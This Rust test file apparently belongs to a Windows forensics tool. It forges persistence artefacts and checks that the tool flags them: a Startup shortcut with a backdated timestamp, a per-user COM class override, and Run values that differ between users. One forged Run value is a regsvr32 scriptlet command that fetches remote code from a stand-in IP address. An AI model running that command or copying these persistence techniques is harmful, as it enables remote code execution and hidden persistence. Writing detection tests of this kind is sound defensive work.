//! Startup folder files (collected shortcuts and $MFT entries, deleted ones included), per-user
//! COM classes (the corpus's UsrClass.dat; a forged one overriding a forged SOFTWARE hive's
//! class) and values that differ between users.

mod common;

use std::path::Path;

use common::{corpus, scan, software_root, sysmon_start, temp_case};
use konseki_forge::evtx::write_evtx;
use konseki_forge::lnk::{write_lnk, LnkSpec};
use konseki_forge::mft::{write_mft, FileTimes, MftFile};
use konseki_forge::regf::{write_hive, RegData, RegKey};
use konseki_model::{AutostartReport, Execution, HostReport, Timestamp};

fn t(s: &str) -> Timestamp {
    s.parse().unwrap()
}

fn flags(a: &AutostartReport) -> Vec<&str> {
    a.attention.iter().map(|f| f.id.as_str()).collect()
}

fn entries<'a>(report: &'a HostReport, location: &str) -> Vec<&'a AutostartReport> {
    report
        .autostarts
        .iter()
        .filter(|a| a.entry.location == location)
        .collect()
}

const STARTUP: &str = r"Users\eve\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup";

/// A KAPE-style tree: a shortcut in eve's Startup folder (collected, and in the $MFT with its
/// $SI creation backdated), a batch file deleted from the folder ($MFT only), and Sysmon
/// process starts of the shortcut's target.
#[test]
fn startup_folder_shortcut_with_its_target_run_and_a_deleted_file() {
    let dir = temp_case("startup");
    let folder = dir.join("C").join(STARTUP.replace('\\', "/"));
    std::fs::create_dir_all(&folder).unwrap();
    let link = LnkSpec {
        target: None,
        environment_target: Some(r"%LOCALAPPDATA%\Temp\updater.exe".into()),
        arguments: Some("-k netsvc".into()),
        working_dir: Some(r"%LOCALAPPDATA%\Temp".into()),
        description: None,
        target_times: Some((
            t("2026-01-05T07:59:00Z"),
            t("2026-01-05T07:59:00Z"),
            t("2026-01-05T07:59:10Z"),
        )),
        target_size: 4096,
        volume: (0, String::new()),
        machine_id: Some("build-box".into()),
        id_list: None,
    };
    std::fs::write(folder.join("Updater.lnk"), write_lnk(&link)).unwrap();
    std::fs::write(folder.join("desktop.ini"), b"[.ShellClassInfo]").unwrap();

    let placed = t("2026-01-05T08:00:00Z");
    let mut lnk_entry = MftFile::new(&format!(r"C:\{STARTUP}\Updater.lnk"), placed, b"L");
    lnk_entry.si = FileTimes::all(t("2019-03-01T10:00:00Z")); // backdated $SI
    let mut gone = MftFile::new(
        &format!(r"C:\{STARTUP}\old.bat"),
        t("2025-12-01T09:00:00Z"),
        b"@echo",
    );
    gone.deleted = true;
    std::fs::write(dir.join("C/$MFT"), write_mft(&[lnk_entry, gone])).unwrap();

    let start = |time: &str, pid: &str| {
        sysmon_start(
            time,
            pid,
            r"C:\Users\eve\AppData\Local\Temp\updater.exe",
            r"C:\Users\eve\AppData\Local\Temp\updater.exe -k netsvc",
        )
    };
    std::fs::write(
        dir.join("Sysmon.evtx"),
        write_evtx(&[start("2026-01-06T08:01:00Z", "5120")], 1),
    )
    .unwrap();
    let report = scan(std::slice::from_ref(&dir));
    std::fs::remove_dir_all(&dir).ok();

    let found = entries(&report, "startup_folder");
    let names: Vec<&str> = found.iter().map(|a| a.entry.name.as_str()).collect();
    assert_eq!(
        names,
        ["old.bat", "Updater.lnk"],
        "by path; desktop.ini is not an entry"
    );
    let updater = found[1];
    assert_eq!(updater.entry.user.as_deref(), Some("eve"));
    assert_eq!(
        updater.entry.command,
        r"%LOCALAPPDATA%\Temp\updater.exe -k netsvc"
    );
    assert_eq!(
        updater.entry.program.as_deref(),
        Some(r"C:\Users\eve\AppData\Local\Temp\updater.exe"),
        "the profile variable expanded for the folder's user"
    );
    let file = updater.entry.file.as_ref().unwrap();
    assert_eq!(file.path, format!(r"C:\{STARTUP}\Updater.lnk"));
    assert!(file.in_use && file.collected.is_some());
    assert_eq!(file.fn_times.as_ref().unwrap().created, placed);
    let shortcut = file.shortcut.as_ref().unwrap();
    assert_eq!(shortcut.machine_id.as_deref(), Some("build-box"));
    assert_eq!(shortcut.target_from.as_deref(), Some("environment block"));
    assert_eq!(updater.execution, Execution::Executed);
    assert!(
        updater.summary.contains("1 process start(s)"),
        "{}",
        updater.summary
    );
    assert_eq!(
        flags(updater),
        ["si_created_before_fn", "user_writable_program"],
        "backdated $SI; a program in Temp"
    );
    assert!(updater
        .evidence
        .iter()
        .any(|i| i.summary.contains("made on machine `build-box`")));

    let old = found[0];
    let file = old.entry.file.as_ref().unwrap();
    assert!(!file.in_use && file.collected.is_none());
    assert_eq!(flags(old)[0], "deleted_autostart_file");
    assert!(old.evidence[0]
        .summary
        .contains("(deleted: its $MFT entry is free)"));
}

/// The corpus's UsrClass.dat (dirty, replayed with its logs), collected under a profile: 14
/// per-user in-process servers and 5 local servers under `CLSID` (regipy lists the same 19),
/// plus the 32-bit view's.
#[test]
fn per_user_com_classes_of_the_corpus_usrclass() {
    let Some(hive) = corpus("hives/UsrClass.dat") else {
        return;
    };
    let dir = temp_case("usrclass");
    let place = dir.join("C/Users/jcloudy/AppData/Local/Microsoft/Windows");
    std::fs::create_dir_all(&place).unwrap();
    for name in ["UsrClass.dat", "UsrClass.dat.LOG1", "UsrClass.dat.LOG2"] {
        let from = hive.with_file_name(name);
        std::fs::copy(&from, place.join(name)).unwrap();
    }
    let report = scan(std::slice::from_ref(&dir));
    std::fs::remove_dir_all(&dir).ok();
    let native = |location: &str| -> Vec<&AutostartReport> {
        entries(&report, location)
            .into_iter()
            .filter(|a| match &a.entry.source {
                konseki_model::Provenance::RegistryKey { at, .. } => at.key.starts_with("CLSID\\"),
                _ => false,
            })
            .collect()
    };
    let inproc = native("user_com_inproc_server");
    let local = native("user_com_local_server");
    assert_eq!((inproc.len(), local.len()), (14, 5));
    let igfx = local
        .iter()
        .find(|a| a.entry.name == "{820D63D5-8CFF-46DE-86AF-4997DEDD6DB5}\\LocalServer32")
        .unwrap();
    assert_eq!(igfx.entry.command, "\"C:\\Windows\\system32\\igfxEM.exe\"");
    assert_eq!(igfx.entry.user.as_deref(), Some("jcloudy"));
    assert_eq!(
        igfx.entry.key_last_written.unwrap().to_string(),
        "2018-03-27T09:56:44.1503995Z"
    );
    assert!(igfx.attention.is_empty());
    let onedrive = inproc
        .iter()
        .find(|a| a.entry.name == "{1BF42E4C-4AF4-4CFD-A1A0-CF2960B8F63E}\\InprocServer32")
        .unwrap();
    assert!(onedrive
        .entry
        .command
        .ends_with("\\amd64\\FileSyncShell64.dll"));
    assert_eq!(flags(onedrive), ["program_in_profile"]);
    // Without a SOFTWARE hive nothing says whether a machine registration is replaced.
    assert!(inproc.iter().all(|a| a.entry.shadows.is_none()));
}

/// A forged SOFTWARE hive registers a class; eve's UsrClass.dat registers the same class with
/// a DLL of her own: the override is flagged. Two users' Run values of the same name differ.
#[test]
fn com_override_and_values_differing_between_users() {
    let when = t("2026-01-05T08:00:00Z");
    let clsid = "{0A29FF9E-7F9C-4437-8B11-F424491E3931}";
    let mut software = software_root(when);
    software
        .path_mut(&format!("Classes\\CLSID\\{clsid}\\InprocServer32"), when)
        .values
        .push((
            String::new(),
            RegData::ExpandSz("%SystemRoot%\\System32\\thumbcache.dll".into()),
        ));
    let mut classes = RegKey::new("ROOT", when);
    classes.path_mut("Local Settings", when);
    classes
        .path_mut(&format!("CLSID\\{clsid}\\InprocServer32"), when)
        .values
        .push((
            String::new(),
            RegData::Sz("C:\\Users\\eve\\AppData\\Roaming\\thumbs.dll".into()),
        ));
    let user = |command: &str| {
        let mut root = RegKey::new("ROOT", when);
        root.path_mut("Environment", when);
        root.path_mut("Software\\Microsoft\\Windows\\CurrentVersion\\Run", when)
            .values
            .extend([
                ("Sync".to_string(), RegData::Sz(command.into())),
                (
                    "Same".to_string(),
                    RegData::Sz("C:\\Program Files\\Same\\same.exe".into()),
                ),
                (
                    "Sct".to_string(),
                    RegData::Sz(
                        "regsvr32.exe /s /n /u /i:http://203.0.113.5/a.sct scrobj.dll".into(),
                    ),
                ),
            ]);
        root
    };
    let dir = temp_case("comusers");
    let write = |rel: &str, root: &RegKey| {
        let path = dir.join(rel);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, write_hive(root)).unwrap();
    };
    write("C/Windows/System32/config/SOFTWARE", &software);
    write(
        "C/Users/eve/AppData/Local/Microsoft/Windows/UsrClass.dat",
        &classes,
    );
    write(
        "C/Users/eve/NTUSER.DAT",
        &user("C:\\Users\\Public\\sync.exe"),
    );
    write(
        "C/Users/bob/NTUSER.DAT",
        &user("C:\\Program Files\\Sync\\sync.exe"),
    );
    let report = scan(&[Path::new(&dir).to_path_buf()]);
    std::fs::remove_dir_all(&dir).ok();

    let com = entries(&report, "user_com_inproc_server");
    assert_eq!(com.len(), 1);
    assert_eq!(
        com[0].entry.shadows.as_deref(),
        Some("%SystemRoot%\\System32\\thumbcache.dll")
    );
    assert_eq!(
        flags(com[0]),
        ["com_class_overridden", "program_in_profile"]
    );

    let run = entries(&report, "user_run");
    let sync: Vec<_> = run.iter().filter(|a| a.entry.name == "Sync").collect();
    assert_eq!(sync.len(), 2);
    for a in &sync {
        let flag = a
            .attention
            .iter()
            .find(|f| f.id == "value_differs_between_users")
            .expect("flagged on both users");
        assert!(
            flag.reason
                .contains("bob: `C:\\Program Files\\Sync\\sync.exe`"),
            "{}",
            flag.reason
        );
        assert!(
            flag.reason.contains("eve: `C:\\Users\\Public\\sync.exe`"),
            "{}",
            flag.reason
        );
    }
    assert!(run
        .iter()
        .filter(|a| a.entry.name == "Same")
        .all(|a| a.attention.is_empty()));
    assert!(run
        .iter()
        .filter(|a| a.entry.name == "Sct")
        .all(|a| flags(a) == ["lolbin_command"]));
}

/// The corpus's Task Scheduler 1.0 `.job` (plaso's `wintask.job`) is a task: its program, and
/// its recorded last run as execution evidence, in local time as written.
#[test]
fn legacy_job_is_a_task_with_its_last_run() {
    let Some(dir) = corpus("tasks/legacy") else {
        return;
    };
    let report = scan(&[dir]);
    assert_eq!(report.tasks.len(), 1);
    let task = &report.tasks[0];
    assert_eq!(task.name, "\\wintask");
    let file = task.file.as_ref().unwrap();
    assert!(file.legacy_job);
    assert_eq!(file.author.as_deref(), Some("Brian"));
    assert_eq!(
        file.last_run_local.as_deref(),
        Some("2013-08-24T12:42:00.112")
    );
    assert_eq!(
        konseki_model::actions_line(&task.actions),
        "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe /ua /installsource scheduler"
    );
    assert_eq!(task.execution, Execution::Executed);
    assert!(
        task.summary.ends_with(
            "executed: the .job records its last run at 2013-08-24T12:42:00.112 (local time)"
        ),
        "{}",
        task.summary
    );
}

/// The SYSTEM hive's time zone turns task local times into UTC: the corpus SYSTEM (Eastern,
/// daylight from the second Sunday of March) with the GameOver task, whose `<Date>`
/// 2022-03-10T15:59:03 becomes 20:59:03Z (the minute Sysmon logged its `schtasks /create` on
/// the APTSimulator VM, itself an Eastern-time machine); and with the `.job`'s last run
/// (2013-08-24, daylight time: UTC-4). SYSTEM_2 is Pacific.
#[test]
fn task_local_times_in_utc_with_the_system_hive_zone() {
    let (Some(system), Some(system_2), Some(game_over), Some(job)) = (
        corpus("hives/SYSTEM"),
        corpus("hives/SYSTEM_2"),
        corpus("tasks/APTSimulatorVM-Win10/GameOver"),
        corpus("tasks/legacy/wintask.job"),
    ) else {
        return;
    };
    let report = scan(&[system, game_over, job]);
    let zone = report.control_sets[0].time_zone.as_ref().unwrap();
    assert_eq!(
        (
            zone.name.as_str(),
            zone.rules.bias_minutes,
            zone.rules.daylight_bias_minutes
        ),
        ("Eastern Standard Time", 300, -60)
    );
    let daylight = zone.rules.daylight_start.unwrap();
    assert_eq!(
        (
            daylight.month,
            daylight.week,
            daylight.weekday,
            daylight.hour
        ),
        (3, 2, 0, 2)
    );
    let task = |name: &str| {
        report
            .tasks
            .iter()
            .find(|t| t.name == name)
            .unwrap()
            .file
            .clone()
            .unwrap()
    };
    assert_eq!(
        task("\\GameOver").date_utc.unwrap().to_string(),
        "2022-03-10T20:59:03Z"
    );
    assert_eq!(
        task("\\wintask").last_run_utc.unwrap().to_string(),
        "2013-08-24T16:42:00.112Z"
    );
    let pacific = scan(&[system_2]);
    let zone = pacific.control_sets[0].time_zone.as_ref().unwrap();
    assert_eq!(
        (zone.name.as_str(), zone.rules.bias_minutes),
        ("Pacific Standard Time", 480)
    );
}

/// `konseki timeline` carries the persistence facts too: task events, autostart key writes,
/// and task registrations and launches with their converted local times.
#[test]
fn timeline_has_task_and_autostart_facts() {
    let (Some(system), Some(game_over), Some(job), Some(scheduler), Some(user)) = (
        corpus("hives/SYSTEM"),
        corpus("tasks/APTSimulatorVM-Win10/GameOver"),
        corpus("tasks/legacy/wintask.job"),
        corpus("evtx/TaskScheduler.evtx"),
        corpus("hives/NTUSER_modified.DAT"),
    ) else {
        return;
    };
    let evidence = konseki_extract::extract(
        &[system, game_over, job, scheduler, user],
        &konseki_extract::NoProgress,
    );
    let timeline = konseki_correlate::timeline::timeline(&evidence);
    let find = |role: konseki_model::TimeRole, text: &str| {
        timeline
            .iter()
            .find(|e| e.role == role && e.summary.contains(text))
            .unwrap_or_else(|| panic!("no {role:?} entry with `{text}`"))
    };
    use konseki_model::TimeRole;
    assert_eq!(
        find(TimeRole::TaskRegistered, "\\GameOver")
            .time
            .to_string(),
        "2022-03-10T20:59:03Z"
    );
    assert_eq!(
        find(TimeRole::TaskLaunched, "\\wintask").time.to_string(),
        "2013-08-24T16:42:00.112Z"
    );
    find(TimeRole::EventLogged, "task registered: \\T1053_005");
    find(TimeRole::KeyLastWritten, "user_run `not_a_malware`");
    assert!(timeline.windows(2).all(|w| w[0].time <= w[1].time));
}

/// With the SOFTWARE hive, the zone's `Dynamic DST` rules apply to their years: Eastern time
/// in 2006 (daylight time from the first Sunday of April) makes a task registered on
/// 2006-04-01 12:00 local 17:00Z; today's rules alone would say 16:00Z.
#[test]
fn dynamic_dst_rules_of_the_software_hive_apply_to_their_years() {
    let Some(system) = corpus("hives/SYSTEM") else {
        return;
    };
    let when = t("2026-01-05T08:00:00Z");
    let tzi = |daylight_month: u8, daylight_week: u8, standard_month: u8, standard_week: u8| {
        let mut b = Vec::new();
        b.extend(300i32.to_le_bytes());
        b.extend(0i32.to_le_bytes());
        b.extend((-60i32).to_le_bytes());
        for (month, week) in [
            (standard_month, standard_week),
            (daylight_month, daylight_week),
        ] {
            b.extend([0, 0, month, 0, 0, 0, week, 0, 2, 0, 0, 0, 0, 0, 0, 0]);
        }
        b
    };
    let mut software = software_root(when);
    software
        .path_mut(
            "Microsoft\\Windows NT\\CurrentVersion\\Time Zones\\Eastern Standard Time\\Dynamic DST",
            when,
        )
        .values
        .extend([
            ("FirstEntry".to_string(), RegData::Dword(2006)),
            ("LastEntry".to_string(), RegData::Dword(2007)),
            ("2006".to_string(), RegData::Binary(tzi(4, 1, 10, 5))),
            ("2007".to_string(), RegData::Binary(tzi(3, 2, 11, 1))),
        ]);
    let dir = temp_case("dynamicdst");
    let config = dir.join("C/Windows/System32/config");
    let tasks = dir.join("C/Windows/System32/Tasks");
    std::fs::create_dir_all(&config).unwrap();
    std::fs::create_dir_all(&tasks).unwrap();
    std::fs::copy(&system, config.join("SYSTEM")).unwrap();
    let xml = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n<Task xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\"><RegistrationInfo><Date>2006-04-01T12:00:00</Date></RegistrationInfo><Actions><Exec><Command>C:\\Windows\\notepad.exe</Command></Exec></Actions></Task>";
    let mut bytes = vec![0xff, 0xfe];
    bytes.extend(xml.encode_utf16().flat_map(u16::to_le_bytes));
    std::fs::write(tasks.join("Old"), &bytes).unwrap();
    let without = scan(std::slice::from_ref(&dir));
    std::fs::write(config.join("SOFTWARE"), write_hive(&software)).unwrap();
    let with = scan(std::slice::from_ref(&dir));
    std::fs::remove_dir_all(&dir).ok();
    let date = |report: &HostReport| {
        let task = report.tasks.iter().find(|t| t.name == "\\Old").unwrap();
        task.file.as_ref().unwrap().date_utc.unwrap().to_string()
    };
    assert_eq!(date(&without), "2006-04-01T16:00:00Z");
    assert_eq!(date(&with), "2006-04-01T17:00:00Z");
    let zone = with.control_sets[0].time_zone.as_ref().unwrap();
    assert_eq!(
        zone.yearly.iter().map(|r| r.year).collect::<Vec<_>>(),
        [2006, 2007]
    );
}
